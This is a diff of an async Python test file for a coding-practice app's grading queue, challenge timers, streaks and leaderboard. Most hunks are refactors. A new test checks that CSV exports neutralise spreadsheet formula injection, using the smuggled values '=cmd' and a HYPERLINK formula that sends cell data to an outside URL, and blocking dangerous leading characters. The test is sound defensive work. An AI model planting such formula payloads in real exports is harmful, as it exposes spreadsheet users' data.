@@ -30,7 +30,7 @@ async def submit_and_grade(w: World, who: str, ex: str, code: str) -> list:
     """Submit and grade only this member's queue (others may be waiting on purpose)."""
     r = await w.dojo.submit(w.actor(who), ex, code)
     assert r.submission_id > 0
-    return await w.dojo.grade_pending(member_id=await w.dojo.member_id(w.actor(who)))
+    return await w.dojo.grade_pending(member_id=await w.member_id(who))
 
 
 async def test_lifecycle_stores_code_and_full_result(world: World) -> None:
@@ -117,7 +117,7 @@ async def test_one_grading_per_member_and_queue_limit(world: World) -> None:
         statuses = (await s.scalars(select(Submission.status).order_by(Submission.id))).all()
     assert statuses == ["grading", "queued", "queued"]
     # the database itself refuses a second grading row for the member
-    assert await world.dojo._claim(1, force=True) is None
+    assert await world.dojo.queue.claim(1, force=True) is None
     world.grader.block.set()
     events = await task
     assert [e.exercise_id for e in events] == ["1.1.1", "1.1.2", "1.2.1"]
@@ -162,11 +162,11 @@ async def test_challenge_window_speed_bonus_and_late_policy(world: World) -> Non
 
 async def test_personal_timer_reveals_prompt_and_ranks_by_time_taken(world: World) -> None:
     await setup_cohort(world, ["ann", "bob"])
-    assert not await world.dojo.can_see_prompt(world.actor("ann"), world.dojo.exercise("1.4.1"))
-    window, exercise = await world.dojo.start_timer(world.actor("ann"), "1.4.1")
-    assert window.closes_at - window.opens_at == timedelta(minutes=60)
-    assert exercise.prompt.startswith("Full prompt")
-    assert await world.dojo.can_see_prompt(world.actor("ann"), exercise)
+    assert not (await world.dojo.challenges.prompt(world.actor("ann"), "1.4.1")).visible
+    timer = await world.dojo.start_timer(world.actor("ann"), "1.4.1")
+    assert timer.window.closes_at - timer.window.opens_at == timedelta(minutes=60)
+    assert timer.prompt.startswith("Full prompt")
+    assert (await world.dojo.challenges.prompt(world.actor("ann"), "1.4.1")).visible
     with pytest.raises(DojoError, match="timer started"):
         await world.dojo.start_timer(world.actor("ann"), "1.4.1")
     world.clock.advance(timedelta(minutes=40))
@@ -205,7 +205,7 @@ async def test_leaderboard_ties_go_to_who_got_there_first(world: World) -> None:
 
 async def test_streak_uses_member_zone(world: World) -> None:
     await setup_cohort(world, ["ann"], tz="Europe/Berlin")
-    await world.dojo.set_member_tz(world.actor("ann"), "America/Los_Angeles")
+    await world.dojo.cohorts.set_member_tz(world.actor("ann"), "America/Los_Angeles")
     # Mon 2026-03-02 08:00 UTC = Mon 00:00 LA; pass at 08:00 UTC and at 07:00 UTC next day
     await submit_and_grade(world, "ann", "1.1.1", PASS)
     world.clock.advance(timedelta(hours=23))  # Tue 07:00 UTC = Mon 23:00 LA: same LA day
@@ -252,7 +252,7 @@ async def test_pause_and_resume_shift_the_schedule_and_keep_streaks(world: World
     assert info.paused and info.day == 3
     assert (await world.dojo.streak(world.actor("ann"))).streak.current == 3
     c = await world.dojo.resume(coach)
-    assert c.paused_days == 3 and world.dojo.cohort_day(c) == 3
+    assert c.paused_days == 3 and c.day == 3
     ev = await submit_and_grade(world, "ann", "1.2.2", PASS)
     assert ev[0].streak == 4  # the three paused days cost nothing
     st = (await world.dojo.streak(world.actor("ann"))).streak
@@ -312,3 +312,20 @@ async def test_two_processes_grade_each_submission_once_one_at_a_time(
         assert peak == {"ann": 1, "bob": 1}
     finally:
         await other.close()
+
+
+async def test_export_cells_cannot_become_formulas(world: World) -> None:
+    await setup_cohort(world, [])
+    evil = world.actor("eve")
+    evil = type(evil)(evil.platform, evil.channel_id, "=cmd", '=HYPERLINK("https://x"&A1,"open")')
+    await world.dojo.join(evil)
+    await world.dojo.submit(evil, "1.1.1", PASS)
+    await world.dojo.grade_pending()
+    _, data = await world.dojo.export_csv(world.actor("coach", Role.instructor))
+    import csv
+    import io
+
+    rows = list(csv.reader(io.StringIO(data.decode())))
+    cells = [c for row in rows[1:] for c in row]
+    assert "'=HYPERLINK(\"https://x\"&A1,\"open\")" in cells and "'=cmd" in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
